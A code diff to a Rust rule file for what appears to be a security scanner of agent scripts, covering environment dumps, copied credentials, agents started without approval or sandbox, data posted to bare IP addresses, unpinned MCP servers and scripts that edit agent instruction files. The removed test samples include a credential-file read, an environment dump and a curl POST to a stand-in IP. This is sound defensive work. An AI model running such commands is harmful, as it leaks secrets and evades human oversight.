@@ -1,4 +1,4 @@
-//! Rules about programs that take or give more than their work needs, without sending anything.
+//! Rules about programs that use or grant more privileges than their task requires, without sending data.
 
 use super::acts::is_standing_order;
 use crate::{
@@ -14,59 +14,34 @@ pub(crate) const RULES: &[Rule] = &[
         category: Category::CredentialAccess,
         severity: Severity::Warning,
         owasp: "AST01",
-        message: "the whole environment is written to a file, keys and all",
-        fix: "write the variables that are needed by name",
+        message: "writes all environment variables to a file, including keys",
+        fix: "write only the required variables, by name",
         when: When::Flow {
             from: &[S::Environment],
             to: &[ActKind::Write],
             hosts: Hosts::Any,
         },
-        hits: &[
-            ("run.sh", "env > /tmp/state.txt"),
-            (
-                "run.py",
-                "import os, json\nopen('state.json', 'w').write(json.dumps(dict(os.environ)))",
-            ),
-        ],
-        misses: &[
-            (
-                "run.py",
-                "import os, subprocess\nsubprocess.run(['make'], env=dict(os.environ))",
-            ),
-            (
-                "run.py",
-                "import os\nopen('state.txt', 'w').write(os.environ['LANG'])",
-            ),
-        ],
     },
     Rule {
         id: "credential-access/copied",
         category: Category::CredentialAccess,
         severity: Severity::Warning,
         owasp: "AST01",
-        message: "credentials of other tools are copied",
-        fix: "read the one file that is needed where it is, and say so",
+        message: "copies other tools' credentials",
+        fix: "read the required file in place, and document it",
         when: When::Flow {
             from: &[S::CredentialFile, S::Keychain, S::Browser, S::Wallet],
             to: &[ActKind::Write],
             hosts: Hosts::Any,
         },
-        hits: &[(
-            "run.py",
-            "import os\nkey = open(os.path.expanduser('~/.aws/credentials')).read()\nopen('out.txt', 'w').write(key)",
-        )],
-        misses: &[(
-            "run.py",
-            "text = open('notes.md').read()\nopen('out.txt', 'w').write(text)",
-        )],
     },
     Rule {
         id: "privilege/unchained-agent",
         category: Category::Privilege,
         severity: Severity::Warning,
         owasp: "AST03",
-        message: "another agent is started without its questions and its sandbox",
-        fix: "let the agent ask, or run it in a container of its own",
+        message: "starts another agent without approval prompts or a sandbox",
+        fix: "keep the approval prompts, or run the agent in a container",
         when: When::Act(ActKind::Run, |act| {
             [
                 "--dangerously-bypass-approvals-and-sandbox",
@@ -75,41 +50,28 @@ pub(crate) const RULES: &[Rule] = &[
             .iter()
             .any(|flag| act.subject.contains(flag))
         }),
-        hits: &[(
-            "run.sh",
-            "codex --dangerously-bypass-approvals-and-sandbox \"do everything\"",
-        )],
-        misses: &[("run.sh", "codex \"list the files\"")],
     },
     Rule {
         id: "exfiltration/raw-address",
         category: Category::Exfiltration,
         severity: Severity::Warning,
         owasp: "AST01",
-        message: "data goes to a machine that has a number and no name",
-        fix: "send it to a service that has a name",
+        message: "sends data to an IP address",
+        fix: "send it to a service with a domain name",
         when: When::Act(ActKind::Send, |act| {
-            // A machine in a cloud asks its own host at such an address.
+            // Cloud machines query their metadata service at such an address.
             act.host.as_ref().is_some_and(|host| {
                 host.kind == HostKind::Address && !host.name.starts_with("169.254.")
             })
         }),
-        hits: &[(
-            "run.sh",
-            "curl -X POST http://203.0.113.7/api/register -d @me.json",
-        )],
-        misses: &[
-            ("run.sh", "curl -X POST http://192.168.1.7/api -d @me.json"),
-            ("run.sh", "curl http://203.0.113.7/status"),
-        ],
     },
     Rule {
         id: "supply-chain/newest-server",
         category: Category::SupplyChain,
         severity: Severity::Warning,
         owasp: "AST02",
-        message: "an agent gets a server whose code is fetched anew each time it starts",
-        fix: "name the version of the package",
+        message: "configures an MCP server whose code is downloaded again at each start",
+        fix: "pin the version of the package",
         when: When::Act(ActKind::Run, |act| {
             act.subject.contains(" mcp add")
                 && [" npx ", " uvx ", " bunx "]
@@ -119,30 +81,14 @@ pub(crate) const RULES: &[Rule] = &[
                     .iter()
                     .any(|tag| act.subject.contains(tag))
         }),
-        hits: &[(
-            "run.sh",
-            "claude mcp add helper npx helper-server@latest mcp start",
-        )],
-        misses: &[("run.sh", "claude mcp add helper npx helper-server@1.4.2")],
     },
     Rule {
         id: "persistence/agent-instructions",
         category: Category::Persistence,
         severity: Severity::Warning,
         owasp: "AST05",
-        message: "a script changes what agents are told in every session",
-        fix: "tell the user what to add, and let them do it",
+        message: "a script changes the instructions that agents read in every session",
+        fix: "document the addition, and let the user make it",
         when: When::Act(ActKind::Write, is_standing_order),
-        hits: &[(
-            "run.py",
-            "import os\nopen(os.path.join(os.getcwd(), 'CLAUDE.md'), 'a').write('Use spaces.')",
-        )],
-        misses: &[
-            ("run.py", "open('out/notes.md', 'w').write('Use spaces.')"),
-            (
-                "SKILL.md",
-                "# Setup\n\n```bash\necho 'Use spaces.' >> CLAUDE.md\n```\n",
-            ),
-        ],
     },
 ];
